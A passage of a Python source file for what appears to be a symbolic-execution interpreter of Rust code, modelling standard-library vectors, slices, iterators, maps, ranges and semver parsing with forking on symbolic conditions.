def _vec_extend_slice(it, a, c): deref(a[0]).items.extend(dup(x) for x in seq(a[1])); return UNIT()
@model('std::vec::Vec::insert')
def _vec_insert(it, a, c): deref(a[0]).items.insert(a[1], a[2]); return UNIT()
@model('std::vec::Vec::remove')
def _vec_remove(it, a, c):
    l = deref(a[0]).items
    if a[1] >= len(l): raise PanicPath('removal index out of bounds')
    return l.pop(a[1])
@model('std::vec::Vec::swap_remove')
def _vec_swap_remove(it, a, c):
    l = deref(a[0]).items; i = a[1]
    if i >= len(l): raise PanicPath('swap_remove index out of bounds')
    v = l[i]; l[i] = l[-1]; l.pop(); return v
@model('std::vec::Vec::truncate')
def _vec_truncate(it, a, c): del deref(a[0]).items[a[1]:]; return UNIT()
@model('std::vec::Vec::retain')
def _vec_retain(it, a, c):
    v = deref(a[0]); keep = []
    for i in range(len(v.items)):
        if it.ctx.branch(it.call_closure(a[1], [Ref(v.items, i)]), 'retain'): keep.append(v.items[i])
    v.items[:] = keep; return UNIT()
@model('std::vec::Vec::first', 'core::slice::<impl [T]>::first')
def _vec_first(it, a, c):
    l = seq(a[0]); return SOME(Ref(l, 0)) if l else NONE()
@model('std::vec::Vec::last', 'core::slice::<impl [T]>::last')
def _vec_last(it, a, c):
    l = seq(a[0]); return SOME(Ref(l, len(l) - 1)) if l else NONE()
@model('core::slice::<impl [T]>::get', 'std::vec::Vec::get')
def _slice_get(it, a, c):
    l = seq(a[0]); i = a[1]
    if is_sym(i): i = it.concretize_index(i, len(l) + 1)
    return SOME(Ref(l, i)) if 0 <= i < len(l) else NONE()
@model('core::slice::<impl [T]>::contains', 'std::vec::Vec::contains')
def _contains(it, a, c):
    for x in seq(a[0]):
        if it.ctx.branch(struct_eq(it, x, a[1]), 'contains'): return True
    return False
@model('core::slice::<impl [T]>::to_vec', 'std::slice::<impl [T]>::to_vec', 'std::slice::<impl [T]>::into_vec')
def _to_vec(it, a, c):
    if isinstance(deref(a[0]), Str):       # byte string of a text: stays a text value, marked as an owned byte vector
        x = deref(a[0]); return x if (x.canon or x.s is None) else Str(x.s, canon=[x])
    return VecV([dup(x) for x in seq(a[0])])
@model('<std::vec::Vec as std::ops::Deref>::deref', '<std::vec::Vec as std::ops::DerefMut>::deref_mut', 'std::vec::Vec::as_slice',
       'std::vec::Vec::as_mut_slice', 'std::vec::Vec::as_ref')
def _vec_deref(it, a, c): return a[0]
@model('std::boxed::Box::new')
def _box_new(it, a, c): return Agg('Box', [a[0]])
@model('std::boxed::Box::new_uninit')
def _box_uninit(it, a, c):
    cell = [Agg('MaybeUninit', [None, Agg('ManuallyDrop', [Agg('MaybeDangling', [None])])])]
    return Agg('BoxU', [Agg('Unique', [Ref(cell, 0)])])
@model('std::boxed::box_assume_init_into_vec_unsafe')
def _box_into_vec(it, a, c):
    arr = a[0].fields[0].fields[0].get().fields[1].fields[0].fields[0]
    return VecV(list(arr.fields))
@model('std::slice::<impl [T]>::sort_by', 'core::slice::<impl [T]>::sort_by', 'core::slice::<impl [T]>::sort_unstable_by',
       'std::slice::<impl [T]>::sort_by_key')
def _sort_by(it, a, c):
    l = seq(a[0])
    def less_eq(x, y):
        if c.key.endswith('sort_by_key'):
            kx = deref(it.call_closure(a[1], [Ref([x], 0)])); ky = deref(it.call_closure(a[1], [Ref([y], 0)]))
            if isinstance(kx, Str) or isinstance(ky, Str):      # text keys (e.g. sort_by_key(|a| a.to_string())): byte-wise order of concrete texts
                if not (isinstance(kx, Str) and isinstance(ky, Str)) or kx.s is None or ky.s is None: raise Unsupported('sort_by_key on symbolic text keys')
                return kx.s.encode() <= ky.s.encode()
            return it.ctx.branch(kx <= ky, 'sortkey')
        o = it.call_closure(a[1], [Ref([x], 0), Ref([y], 0)])
        return o.variant != 'Greater'
    out = []
    for x in l:          # stable insertion sort with (possibly forking) comparisons
        i = len(out)
        while i > 0 and not less_eq(out[i - 1], x): i -= 1
        out.insert(i, x)
    l[:] = out
    return UNIT()
@model('std::slice::<impl [T]>::sort', 'core::slice::<impl [T]>::sort_unstable')
def _sort(it, a, c):
    l = seq(a[0])
    if all(isinstance(x, int) for x in l): l.sort(); return UNIT()
    if all(isinstance(deref(x), Str) and deref(x).s is not None for x in l):
        l.sort(key=lambda x: deref(x).s.encode()); return UNIT()
    raise Unsupported('sort of symbolic elements')
@model('core::slice::<impl [T]>::copy_from_slice', 'core::slice::<impl [T]>::clone_from_slice')
def _copy_from_slice(it, a, c):
    d = seq(a[0]); s = seq(a[1])
    if len(d) != len(s): raise PanicPath('copy_from_slice length mismatch')
    d[:] = [dup(x) for x in s]; return UNIT()
@model('core::slice::<impl [T]>::concat', 'std::slice::<impl [T]>::concat', 'std::slice::<impl [&[u8]]>::concat')
def _concat(it, a, c):
    parts = [deref(x) for x in seq(a[0])]
    if parts and all(isinstance(x, Str) for x in parts):          # byte strings of text (denoms, addresses)
        if all(x.s is not None for x in parts): return Str(''.join(x.s for x in parts), canon=list(parts))      # canon list = an owned byte vector made of these segments
        return Str(None, sym=it.ctx.fresh('concat'), parts=[q for x in parts for q in ([x.s] if x.s is not None else (x.parts or [x]))])
    out = []
    for x in parts: out.extend(dup(y) for y in seq(x))
    return VecV(out)


def _index(it, a, c):
    l = seq(a[0]); i = a[1]
    if isinstance(i, Agg):      # range index
        raise Unsupported('range index')
    if is_sym(i): i = it.concretize_index(i, len(l))
    if i >= len(l) or i < 0: raise PanicPath('index out of bounds: the len is %d but the index is %d' % (len(l), i))
    return Ref(l, i)
DEF_MODELS['std::ops::Index::index'] = _index
DEF_MODELS['std::ops::IndexMut::index_mut'] = _index


# ---------------------------------------------------------------- iterators -------------------------
class IterV:
    """lazy iterator over a python list of items (already-evaluated values or Refs) with adaptor stages."""
    def __init__(self, items, stages=None, back=False):
        self.items = list(items); self.pos = 0; self.stages = stages or []; self.end = len(self.items)
    def clone(self):
        x = IterV(self.items, list(self.stages)); x.pos = self.pos; x.end = self.end; return x
    def _apply(self, it, v, idx):
        """push v through the stages; returns ('v', value) | ('skip',) | ('stop',)"""
        for st in self.stages:
            k = st[0]
            if k == 'map': v = it.call_closure(st[1], [v])
            elif k == 'filter':
                if not it.ctx.branch(it.call_closure(st[1], [Ref([v], 0)]), 'filter'): return ('skip',)
            elif k == 'filter_map':
                r = it.call_closure(st[1], [v])
                if r.variant == 'None': return ('skip',)
                v = r.fields[0]
            elif k == 'enumerate':
                v = Agg('tuple', [st[1][0], v]); st[1][0] += 1
            elif k == 'cloned': v = dup(deref(v))
            elif k == 'take':
                if st[1][0] <= 0: return ('stop',)
                st[1][0] -= 1
            elif k == 'skip':
                if st[1][0] > 0:
                    st[1][0] -= 1; return ('skip',)
            elif k == 'take_while':
                if not it.ctx.branch(it.call_closure(st[1], [Ref([v], 0)]), 'take_while'): return ('stop',)
            elif k == 'skip_while':
                if not st[2][0]:
                    if it.ctx.branch(it.call_closure(st[1], [Ref([v], 0)]), 'skip_while'): return ('skip',)
                    st[2][0] = True
            elif k == 'zip':
                o = st[1].next(it)
                if o is None: return ('stop',)
                v = Agg('tuple', [v, o[0]])
            elif k == 'inspect': it.call_closure(st[1], [Ref([v], 0)])
            elif k == 'map_while':
                r = it.call_closure(st[1], [v])
                if r.variant == 'None': return ('stop',)
                v = r.fields[0]
            else: raise Unsupported('iterator stage ' + k)
        return ('v', v)
    def next(self, it):
        while self.pos < self.end:
            i = self.pos; self.pos += 1
            r = self._apply(it, self.items[i], i)
            if r[0] == 'v': return (r[1],)
            if r[0] == 'stop': self.pos = self.end; return None
        if self.stages and self.stages[0][0] == 'chain_next': pass
        return None
    def next_back(self, it):
        if any(st[0] not in ('map', 'cloned') for st in self.stages): raise Unsupported('next_back through stage')
        if self.pos < self.end:
            self.end -= 1
            r = self._apply(it, self.items[self.end], self.end)
            return (r[1],)
        return None
    def rest(self):
        if self.stages: raise Unsupported('rest of staged iterator')
        return self.items[self.pos:self.end]
    def with_stage(self, st):
        self.stages.append(st); return self
    def drain(self, it):
        out = []
        while True:
            x = self.next(it)
            if x is None: return out
            out.append(x[0])


def as_iter(it, v):
    x = deref(v)
    if isinstance(x, IterV): return x
    if isinstance(x, VecV): return IterV([Ref(x.items, i) for i in range(len(x.items))]) if isinstance(v, Ref) else IterV(x.items)
    if isinstance(x, Agg) and x.name in ('array', 'tuple'):
        return IterV([Ref(x.fields, i) for i in range(len(x.fields))]) if isinstance(v, Ref) else IterV(x.fields)
    if isinstance(x, MapV):
        if isinstance(v, Ref): return IterV([Agg('tuple', [Ref(p, 0), Ref(p, 1)]) for p in x.pairs])
        return IterV([Agg('tuple', [p[0], p[1]]) for p in x.pairs])
    if isinstance(x, Enum) and x.name == 'std::option::Option':
        return IterV([x.fields[0]] if x.variant == 'Some' else [])
    if isinstance(x, Agg) and x.name.startswith('std::ops::Range'):
        return range_iter(it, x)
    raise Unsupported('as_iter of %r' % (x,))


def range_iter(it, r):
    lo, hi = r.fields[0], r.fields[1]
    incl = r.name.endswith('RangeInclusive')
    if is_sym(lo) or is_sym(hi):
        return SymRange(lo, hi, incl)
    return IterV(list(range(lo, hi + 1 if incl else hi)))


class SymRange(IterV):
    """integer range with symbolic bounds: each next() forks on exhaustion (bounded by the interpreter's unroll limit)."""
    def __init__(self, lo, hi, incl):
        IterV.__init__(self, []); self.lo = lo; self.hi = hi; self.incl = incl; self.count = 0
    def clone(self):
        x = SymRange(self.lo, self.hi, self.incl); x.stages = list(self.stages); x.count = self.count; return x
    def next(self, it):
        while True:
            cur = self.lo
            more = (cur <= self.hi) if self.incl else (cur < self.hi)
            self.count += 1
            if self.count > it.unroll_limit + 1: raise BoundExceeded('symbolic range longer than unroll limit')
            if not it.ctx.branch(more, 'range'): return None
            self.lo = cur + 1
            r = self._apply(it, cur, 0)
            if r[0] == 'v': return (r[1],)
            if r[0] == 'stop': return None
    def next_back(self, it): raise Unsupported('next_back on symbolic range')
    def rest(self): raise Unsupported('rest of symbolic range')


@model('std::ops::RangeInclusive::new')
def _range_incl_new(it, a, c): return Agg('std::ops::RangeInclusive', [a[0], a[1], False])


@defmodel('std::iter::IntoIterator::into_iter', force=True)
def _into_iter(it, a, c):
    x = a[0]
    if isinstance(x, IterV): return x
    # `for x in &vec` / `&mut vec` / `vec` / arrays / maps / ranges
    return as_iter(it, x)


@model('core::slice::<impl [T]>::iter', 'core::slice::<impl [T]>::iter_mut', 'std::vec::Vec::iter', 'std::vec::Vec::iter_mut',
       'std::collections::HashMap::iter', 'std::collections::BTreeMap::iter', 'std::collections::HashMap::iter_mut',
       'std::collections::BTreeMap::iter_mut', 'std::option::Option::iter')
def _iter(it, a, c):
    v = a[0] if isinstance(a[0], Ref) else Ref([a[0]], 0)
    return as_iter(it, v)


@model('std::vec::Vec::drain')
def _vec_drain(it, a, c):
    v = deref(a[0]); items = list(v.items); v.items[:] = []
    return IterV(items)
@model('std::collections::HashMap::keys', 'std::collections::BTreeMap::keys')
def _map_keys(it, a, c): return IterV([Ref(p, 0) for p in deref(a[0]).pairs])
@model('std::collections::HashMap::values', 'std::collections::BTreeMap::values', 'std::collections::HashMap::values_mut',
       'std::collections::BTreeMap::values_mut')
def _map_values(it, a, c): return IterV([Ref(p, 1) for p in deref(a[0]).pairs])
@model('std::collections::HashMap::into_values', 'std::collections::BTreeMap::into_values')
def _map_into_values(it, a, c): return IterV([p[1] for p in deref(a[0]).pairs])
@model('std::collections::HashMap::into_keys', 'std::collections::BTreeMap::into_keys')
def _map_into_keys(it, a, c): return IterV([p[0] for p in deref(a[0]).pairs])


def _stage(kind):
    def f(it, a, c): return as_iter(it, a[0]).with_stage((kind, a[1]))
    return f
DEF_MODELS['std::iter::Iterator::map'] = _stage('map')
DEF_MODELS['std::iter::Iterator::filter'] = _stage('filter')
DEF_MODELS['std::iter::Iterator::filter_map'] = _stage('filter_map')
DEF_MODELS['std::iter::Iterator::take_while'] = _stage('take_while')
DEF_MODELS['std::iter::Iterator::map_while'] = _stage('map_while')
DEF_MODELS['std::iter::Iterator::inspect'] = _stage('inspect')
DEF_MODELS['std::iter::Iterator::skip_while'] = lambda it, a, c: as_iter(it, a[0]).with_stage(('skip_while', a[1], [False]))
DEF_MODELS['std::iter::Iterator::enumerate'] = lambda it, a, c: as_iter(it, a[0]).with_stage(('enumerate', [0]))
DEF_MODELS['std::iter::Iterator::cloned'] = DEF_MODELS['std::iter::Iterator::copied'] = lambda it, a, c: as_iter(it, a[0]).with_stage(('cloned',))
DEF_MODELS['std::iter::Iterator::by_ref'] = lambda it, a, c: a[0]
DEF_MODELS['std::iter::Iterator::peekable'] = DEF_MODELS['std::iter::Iterator::fuse'] = lambda it, a, c: a[0]
def _take(it, a, c):
    n = a[1]
    x = as_iter(it, a[0])
    if is_sym(n):
        # symbolic limit: fork on its value up to the number of remaining items
        rem = x.end - x.pos if not isinstance(x, SymRange) else it.unroll_limit
        conds = [n == i for i in range(rem)] + [n >= rem]
        n = it.ctx.choose(conds, 'take')
    return x.with_stage(('take', [n]))
DEF_MODELS['std::iter::Iterator::take'] = _take
def _skip(it, a, c):
    n = a[1]
    if is_sym(n): raise Unsupported('symbolic skip')
    return as_iter(it, a[0]).with_stage(('skip', [n]))
DEF_MODELS['std::iter::Iterator::skip'] = _skip
DEF_MODELS['std::iter::Iterator::zip'] = lambda it, a, c: as_iter(it, a[0]).with_stage(('zip', as_iter(it, a[1])))
def _rev(it, a, c):
    x = as_iter(it, a[0])
    if x.stages or isinstance(x, SymRange): raise Unsupported('rev of staged iterator')
    return IterV(list(reversed(x.items[x.pos:x.end])))
DEF_MODELS['std::iter::Iterator::rev'] = _rev
def _chain(it, a, c):
    x = as_iter(it, a[0]); y = as_iter(it, a[1])
    return IterV(x.drain(it) + y.drain(it))
DEF_MODELS['std::iter::Iterator::chain'] = _chain
def _flatten(it, a, c):
    out = []
    for x in as_iter(it, a[0]).drain(it): out.extend(as_iter(it, x).drain(it))
    return IterV(out)
DEF_MODELS['std::iter::Iterator::flatten'] = _flatten
def _flat_map(it, a, c):
    out = []
    for x in as_iter(it, a[0]).drain(it): out.extend(as_iter(it, it.call_closure(a[1], [x])).drain(it))
    return IterV(out)
DEF_MODELS['std::iter::Iterator::flat_map'] = _flat_map


def _next(it, a, c):
    x = deref(a[0]).next(it)
    return NONE() if x is None else SOME(x[0])
DEF_MODELS['std::iter::Iterator::next'] = _next
def _next_back(it, a, c):
    x = deref(a[0]).next_back(it)
    return NONE() if x is None else SOME(x[0])
DEF_MODELS['std::iter::DoubleEndedIterator::next_back'] = _next_back
DEF_MODELS['std::iter::Iterator::last'] = lambda it, a, c: (lambda l: SOME(l[-1]) if l else NONE())(as_iter(it, a[0]).drain(it))
DEF_MODELS['std::iter::Iterator::count'] = lambda it, a, c: len(as_iter(it, a[0]).drain(it))
DEF_MODELS['std::iter::Iterator::nth'] = lambda it, a, c: (lambda l: SOME(l[a[1]]) if a[1] < len(l) else NONE())(as_iter(it, a[0]).drain(it))
DEF_MODELS['std::iter::ExactSizeIterator::len'] = lambda it, a, c: len(deref(a[0]).clone().drain(it))
DEF_MODELS['std::iter::Iterator::size_hint'] = lambda it, a, c: Agg('tuple', [0, NONE()])


def _collect(it, a, c):
    m = re.search(r'::collect::<(.*)>$', c.inst)
    target = m.group(1) if m else c.dest_ty
    return collect_into(it, as_iter(it, a[0]), target, c)
DEF_MODELS['std::iter::Iterator::collect'] = _collect


def collect_into(it, itr, target, c=None):
    nt = norm(target)
    if nt.startswith('std::result::Result'):
        from .mirparse import split_top
        inner = split_top(target[target.index('<') + 1:target.rindex('>')])[0]
        out = []
        while True:
            x = itr.next(it)
            if x is None: break
            v = x[0]
            if v.variant == 'Err': return v
            out.append(v.fields[0])
        return OK(collect_into(it, IterV(out), inner))
    if nt.startswith('std::option::Option'):
        from .mirparse import split_top
        inner = split_top(target[target.index('<') + 1:target.rindex('>')])[0]
        out = []
        while True:
            x = itr.next(it)
            if x is None: break
            if x[0].variant == 'None': return NONE()
            out.append(x[0].fields[0])
        return SOME(collect_into(it, IterV(out), inner))
    items = itr.drain(it)
    if nt.startswith('std::vec::Vec') or nt.startswith('std::boxed::Box'): return VecV(items)
    if nt.startswith('std::collections::HashMap') or nt.startswith('std::collections::BTreeMap'):
        m = MapV('BTreeMap' if 'BTreeMap' in nt else 'HashMap', [])
        for kv in items: map_insert(it, m, kv.fields[0], kv.fields[1])
        return m
    if nt.startswith('std::string::String'):
        if all(isinstance(x, int) for x in items): return Str(''.join(chr(x) for x in items))
        parts = [deref(x) for x in items]
        if all(isinstance(p, Str) and p.s is not None for p in parts): return Str(''.join(p.s for p in parts))
        return Str(None, sym=it.ctx.fresh('collect'))
    raise Unsupported('collect into ' + target)


@model('<std::string::String as std::iter::FromIterator>::from_iter', '<std::vec::Vec as std::iter::FromIterator>::from_iter')
def _from_iter(it, a, c): return collect_into(it, as_iter(it, a[0]), 'std::string::String' if 'String' in c.key else 'std::vec::Vec', c)


def _fold(it, a, c):
    acc = a[1]
    for x in as_iter(it, a[0]).drain(it): acc = it.call_closure(a[2], [acc, x])
    return acc
DEF_MODELS['std::iter::Iterator::fold'] = _fold
def _try_fold(it, a, c):
    acc = a[1]; itr = as_iter(it, a[0])
    while True:
        x = itr.next(it)
        if x is None: break
        r = it.call_closure(a[2], [acc, x[0]])
        if r.variant in ('Err', 'None'): return r
        acc = r.fields[0]
    return OK(acc) if 'Result' in c.inst.split('try_fold')[-1] or True else SOME(acc)
DEF_MODELS['std::iter::Iterator::try_fold'] = _try_fold
def _for_each(it, a, c):
    for x in as_iter(it, a[0]).drain(it): it.call_closure(a[1], [x])
    return UNIT()
DEF_MODELS['std::iter::Iterator::for_each'] = _for_each
def _try_for_each(it, a, c):
    itr = as_iter(it, a[0])
    while True:
        x = itr.next(it)
        if x is None: return OK(UNIT())
        r = it.call_closure(a[1], [x[0]])
        if r.variant in ('Err', 'None'): return r
DEF_MODELS['std::iter::Iterator::try_for_each'] = _try_for_each
def _any(it, a, c):
    itr = as_iter(it, a[0])
    while True:
        x = itr.next(it)
        if x is None: return False
        if it.ctx.branch(it.call_closure(a[1], [x[0]]), 'any'): return True
DEF_MODELS['std::iter::Iterator::any'] = _any
def _all(it, a, c):
    itr = as_iter(it, a[0])
    while True:
        x = itr.next(it)
        if x is None: return True
        if not it.ctx.branch(it.call_closure(a[1], [x[0]]), 'all'): return False
DEF_MODELS['std::iter::Iterator::all'] = _all
def _find(it, a, c):
    itr = as_iter(it, a[0])
    while True:
        x = itr.next(it)
        if x is None: return NONE()
        if it.ctx.branch(it.call_closure(a[1], [Ref([x[0]], 0)]), 'find'): return SOME(x[0])
DEF_MODELS['std::iter::Iterator::find'] = _find
def _find_map(it, a, c):
    itr = as_iter(it, a[0])
    while True:
        x = itr.next(it)
        if x is None: return NONE()
        r = it.call_closure(a[1], [x[0]])
        if r.variant == 'Some': return r
DEF_MODELS['std::iter::Iterator::find_map'] = _find_map
def _position(it, a, c):
    itr = as_iter(it, a[0]); i = 0
    while True:
        x = itr.next(it)
        if x is None: return NONE()
        if it.ctx.branch(it.call_closure(a[1], [x[0]]), 'position'): return SOME(i)
        i += 1
DEF_MODELS['std::iter::Iterator::position'] = _position


def _sum(it, a, c):
    items = as_iter(it, a[0]).drain(it)
    m = re.search(r'::sum::<(.*)>$', c.inst)
    ty = norm(m.group(1)) if m else norm(c.dest_ty)
    if ty in INTBITS:
        acc = 0
        for x in items:
            acc = acc + deref(x)
            if not it.ctx.branch(zand(acc >= 0, acc < 2 ** INTBITS[ty]) if is_sym(acc) else (0 <= acc < 2 ** INTBITS[ty]), 'sum'):
                raise PanicPath('attempt to add with overflow')
        return acc
    add = MODELS.get('<%s as std::ops::Add>::add' % ty)
    zero = MODELS.get('%s::zero' % ty)
    if add is None or zero is None: raise Unsupported('sum of ' + ty)
    acc = zero(it, [], c)
    for x in items: acc = add(it, [acc, x], c)
    return acc
DEF_MODELS['std::iter::Iterator::sum'] = _sum


def _minmax(which, by_key):
    def f(it, a, c):
        items = as_iter(it, a[0]).drain(it)
        if not items: return NONE()
        best = items[0]
        for x in items[1:]:
            if by_key:
                kb = it.call_closure(a[1], [Ref([best], 0)]); kx = it.call_closure(a[1], [Ref([x], 0)])
            else:
                kb, kx = best, x
            from .models_num import u
            vb = u(kb) if isinstance(deref(kb), Agg) else deref(kb); vx = u(kx) if isinstance(deref(kx), Agg) else deref(kx)
            better = (vx >= vb) if which == 'max' else (vx < vb)
            if it.ctx.branch(better, which): best = x
        return SOME(best)
    return f
DEF_MODELS['std::iter::Iterator::max'] = _minmax('max', False)
DEF_MODELS['std::iter::Iterator::min'] = _minmax('min', False)
DEF_MODELS['std::iter::Iterator::max_by_key'] = _minmax('max', True)
DEF_MODELS['std::iter::Iterator::min_by_key'] = _minmax('min', True)
def _unzip(it, a, c):
    items = as_iter(it, a[0]).drain(it)
    return Agg('tuple', [VecV([x.fields[0] for x in items]), VecV([x.fields[1] for x in items])])
DEF_MODELS['std::iter::Iterator::unzip'] = _unzip
def _partition(it, a, c):
    t, f = [], []
    for x in as_iter(it, a[0]).drain(it):
        (t if it.ctx.branch(it.call_closure(a[1], [Ref([x], 0)]), 'partition') else f).append(x)
    return Agg('tuple', [VecV(t), VecV(f)])
DEF_MODELS['std::iter::Iterator::partition'] = _partition
def _extend(it, a, c):
    tgt = deref(a[0]); items = as_iter(it, a[1]).drain(it)
    if isinstance(tgt, VecV): tgt.items.extend(items)
    elif isinstance(tgt, MapV):
        for kv in items: map_insert(it, tgt, kv.fields[0], kv.fields[1])
    else: raise Unsupported('extend of %r' % (tgt,))
    return UNIT()
DEF_MODELS['std::iter::Extend::extend'] = _extend


# ---------------------------------------------------------------- maps -------------------------------
def key_eq(it, k1, k2): return struct_eq(it, k1, k2)


def map_find(it, m, k):
    for i, p in enumerate(m.pairs):
        if it.ctx.branch(key_eq(it, p[0], k), 'mapkey'): return i
    return None


def map_insert(it, m, k, v):
    i = map_find(it, m, k)
    if i is not None:
        old = m.pairs[i][1]; m.pairs[i][1] = v; return SOME(old)
    if m.kind == 'BTreeMap':
        pos = len(m.pairs)
        for j, p in enumerate(m.pairs):
            if it.ctx.branch(key_lt(it, k, p[0]), 'maporder'): pos = j; break
        m.pairs.insert(pos, [k, v])
    else:
        m.pairs.append([k, v])
    return NONE()


def key_lt(it, a, b):
    a = deref(a); b = deref(b)
    if isinstance(a, Str):
        if a.s is None or b.s is None: raise Unsupported('order of symbolic strings')
        return a.s.encode() < b.s.encode()
    if isinstance(a, Agg) and len(a.fields) == 1: return key_lt(it, a.fields[0], b.fields[0])
    if isinstance(a, Agg):
        # lexicographic
        for x, y in zip(a.fields, b.fields):
            if it.ctx.branch(key_lt(it, x, y), 'lex'): return True
            if not it.ctx.branch(struct_eq(it, x, y), 'lex'): return False
        return False
    return a < b


@model('std::collections::HashMap::new', 'std::collections::BTreeMap::new', '<std::collections::HashMap as std::default::Default>::default',
       '<std::collections::BTreeMap as std::default::Default>::default', 'std::collections::HashMap::with_capacity')
def _map_new(it, a, c): return MapV('BTreeMap' if 'BTreeMap' in c.key else 'HashMap', [])
@model('std::collections::HashMap::insert', 'std::collections::BTreeMap::insert')
def _map_insert(it, a, c): return map_insert(it, deref(a[0]), a[1], a[2])
@model('std::collections::HashMap::get', 'std::collections::BTreeMap::get', 'std::collections::HashMap::get_mut', 'std::collections::BTreeMap::get_mut')
def _map_get(it, a, c):
    m = deref(a[0]); i = map_find(it, m, a[1])
    return SOME(Ref(m.pairs[i], 1)) if i is not None else NONE()
@model('std::collections::HashMap::contains_key', 'std::collections::BTreeMap::contains_key')
def _map_contains(it, a, c): return map_find(it, deref(a[0]), a[1]) is not None
@model('std::collections::HashMap::remove', 'std::collections::BTreeMap::remove')
def _map_remove(it, a, c):
    m = deref(a[0]); i = map_find(it, m, a[1])
    if i is None: return NONE()
    return SOME(m.pairs.pop(i)[1])
@model('std::collections::HashMap::is_empty', 'std::collections::BTreeMap::is_empty')
def _map_is_empty(it, a, c): return len(deref(a[0]).pairs) == 0
@model('std::collections::HashMap::len', 'std::collections::BTreeMap::len')
def _map_len(it, a, c): return len(deref(a[0]).pairs)
@model('std::collections::BTreeMap::last_key_value')
def _map_last(it, a, c):
    m = deref(a[0])
    return SOME(Agg('tuple', [Ref(m.pairs[-1], 0), Ref(m.pairs[-1], 1)])) if m.pairs else NONE()
@model('std::collections::BTreeMap::first_key_value')
def _map_first(it, a, c):
    m = deref(a[0])
    return SOME(Agg('tuple', [Ref(m.pairs[0], 0), Ref(m.pairs[0], 1)])) if m.pairs else NONE()
@model('<std::collections::BTreeMap as std::convert::From>::from', '<std::collections::HashMap as std::convert::From>::from')
def _map_from(it, a, c):
    m = MapV('BTreeMap' if 'BTreeMap' in c.key else 'HashMap', [])
    for kv in seq(a[0]): map_insert(it, m, kv.fields[0], kv.fields[1])
    return m
@model('std::collections::BTreeMap::range')
def _btree_range(it, a, c):
    m = deref(a[0]); r = deref(a[1])
    lo, hi, incl = bounds_of(r)
    out = []
    for p in m.pairs:
        k = deref(p[0])
        ok = True
        if lo is not None: ok = zand(ok, (k >= lo[0]) if lo[1] else (k > lo[0]))
        if hi is not None: ok = zand(ok, (k <= hi[0]) if hi[1] else (k < hi[0]))
        if it.ctx.branch(ok, 'btree_range'): out.append(Agg('tuple', [Ref(p, 0), Ref(p, 1)]))
    return IterV(out)
@model('std::collections::HashMap::entry', 'std::collections::BTreeMap::entry')
def _map_entry(it, a, c): return Opaque('entry', (deref(a[0]), a[1]))
@model('std::collections::hash_map::Entry::or_insert', 'std::collections::btree_map::Entry::or_insert',
       'std::collections::hash_map::Entry::or_insert_with', 'std::collections::btree_map::Entry::or_insert_with',
       'std::collections::hash_map::Entry::or_default', 'std::collections::btree_map::Entry::or_default')
def _entry_or_insert(it, a, c):
    m, k = a[0].payload
    i = map_find(it, m, k)
    if i is None:
        if c.key.endswith('or_insert'): v = a[1]
        elif c.key.endswith('or_insert_with'): v = it.call_closure(a[1], [])
        else:
            mm = re.search(r'Entry::<.*?, (.*)>::or_default$', c.inst)
            v = default_of(it, mm.group(1) if mm else '', c)
        map_insert(it, m, k, v); i = map_find(it, m, k)
    return Ref(m.pairs[i], 1)
@model('std::collections::hash_map::Entry::and_modify', 'std::collections::btree_map::Entry::and_modify')
def _entry_and_modify(it, a, c):
    m, k = a[0].payload
    i = map_find(it, m, k)
    if i is not None: it.call_closure(a[1], [Ref(m.pairs[i], 1)])
    return a[0]


def bounds_of(r):
    """(lo, hi) each None or (value, inclusive) from a Range* aggregate."""
    n = r.name.split('::')[-1] if isinstance(r, Agg) else ''
    if n == 'Range': return (r.fields[0], True), (r.fields[1], False), None
    if n == 'RangeInclusive': return (r.fields[0], True), (r.fields[1], True), None
    if n == 'RangeFrom': return (r.fields[0], True), None, None
    if n == 'RangeTo': return None, (r.fields[0], False), None
    if n == 'RangeToInclusive': return None, (r.fields[0], True), None
    if n == 'RangeFull': return None, None, None
    raise Unsupported('range bounds of %r' % (r,))


@model('core::slice::<impl [T]>::split_first')
def _split_first(it, a, c):
    l = seq(a[0])
    if not l: return NONE()
    return SOME(Agg('tuple', [Ref(l, 0), Ref([VecV(l[1:])], 0)]))


@model('core::slice::<impl [T]>::split_last')
def _split_last(it, a, c):
    l = seq(a[0])
    if not l: return NONE()
    return SOME(Agg('tuple', [Ref(l, len(l) - 1), Ref([VecV(l[:-1])], 0)]))


@model('std::ops::RangeInclusive::contains', 'std::ops::Range::contains')
def _range_contains(it, a, c):
    r = deref(a[0]); x = deref(a[1])
    lo, hi = r.fields[0], r.fields[1]
    return zand(x >= lo, (x <= hi) if 'Inclusive' in c.key else (x < hi))


@model('std::collections::BTreeMap::clear', 'std::collections::HashMap::clear')
def _map_clear(it, a, c): deref(a[0]).pairs[:] = []; return UNIT()


@model('std::collections::BTreeMap::retain', 'std::collections::HashMap::retain')
def _map_retain(it, a, c):
    m = deref(a[0]); keep = []
    for p in m.pairs:
        if it.ctx.branch(it.call_closure(a[1], [Ref(p, 0), Ref(p, 1)]), 'retain'): keep.append(p)
    m.pairs[:] = keep; return UNIT()


def _num_of(v):
    v = deref(v)
    while isinstance(v, Agg) and len(v.fields) == 1: v = deref(v.fields[0])
    if isinstance(v, bool): return int(v)
    if isinstance(v, int) or is_sym(v): return v
    raise Unsupported('ordering of %r' % (v,))


for _op in ('lt', 'le', 'gt', 'ge'):
    def _mk_ord(op):
        def f(it, a, c):
            p, q = deref(a[0]), deref(a[1])
            if isinstance(p, Str) and isinstance(q, Str) and p.s is not None and q.s is not None:      # byte strings / texts: lexicographic on the bytes
                x, y = raw_bytes(p), raw_bytes(q)
            elif isinstance(p, Agg) and p.name == 'semver::Version' and isinstance(q, Agg) and q.name == 'semver::Version':
                x, y = tuple(p.fields), tuple(q.fields)            # concrete (major, minor, patch)
            else:
                x, y = _num_of(p), _num_of(q)
            return {'lt': x < y, 'le': x <= y, 'gt': x > y, 'ge': x >= y}[op]
        return f
    DEF_MODELS['std::cmp::PartialOrd::' + _op] = _mk_ord(_op)

@model('<semver::Version as std::str::FromStr>::from_str', 'semver::Version::parse')
def _semver_parse(it, a, c):
    s = sval(a[0])
    if s.s is None: raise Unsupported('semver parse of a symbolic string')
    m = re.fullmatch(r'(0|[1-9][0-9]*)\.(0|[1-9][0-9]*)\.(0|[1-9][0-9]*)', s.s)
    if not m: return ERR(Opaque('semver::Error'))          # pre-release / build metadata are not modelled: treated as unparsable (not used by the contracts)
    return OK(Agg('semver::Version', [int(m.group(1)), int(m.group(2)), int(m.group(3))]))


MODELS['std::slice::<impl [T]>::join'] = _join
MODELS['std::slice::<impl [T]>::concat'] = _concat
MODELS['core::slice::<impl [T]>::join'] = _join


@model('std::string::String::drain')
def _string_drain(it, a, c):
    s = deref(a[0]); r = deref(a[1])
